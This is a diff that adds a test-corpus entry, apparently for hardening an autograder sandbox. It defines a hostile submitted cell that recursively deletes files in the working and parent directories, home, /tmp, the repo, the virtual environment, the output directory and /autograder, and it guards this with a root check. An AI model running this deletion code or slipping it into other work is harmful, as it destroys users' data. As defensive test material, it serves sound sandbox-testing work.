@@ -1,0 +1,28 @@
+"""A top-level cell that deletes every file it can reach from ., .., ~, /tmp, the repo, the venv, the --out directory and a host canary (rmtree and os.remove loops): attacks the grader's files; every part keeps full points."""
+ATTACKS = []
+KEEPS = ["softmax_read", "masks", "multihead", "positions", "targets", "leakage", "training"]
+NEVER = ["HOSTILE_RAN_AS_ROOT"]
+ADD = [(None, '''
+import os
+import shutil
+import sys
+
+# Safety catch for this test corpus only: if the sandbox ever failed to drop root, stop
+# here (the test then fails on the marker) instead of deleting the developer's checkout.
+if os.getuid() == 0 or os.geteuid() == 0:
+    raise RuntimeError("HOSTILE_RAN_AS_ROOT")
+targets = [".", "..", os.path.expanduser("~"), "/tmp", "/var/tmp", "/dev/shm", "__REPO__", "__OUT_DIR__",
+           "__CANARY__", "__REPO__/.hostile-canary-__MARKER__", sys.prefix, os.path.dirname(sys.prefix), "/autograder"]
+removed = 0
+for target in targets:
+    for folder, dirs, files in os.walk(target, topdown=False):
+        for name in files + dirs:
+            path = os.path.join(folder, name)
+            try:
+                os.remove(path) if name in files else os.rmdir(path)
+                removed += 1
+            except OSError:
+                pass
+    shutil.rmtree(target, ignore_errors=True)
+print("removed", removed)
+''')]
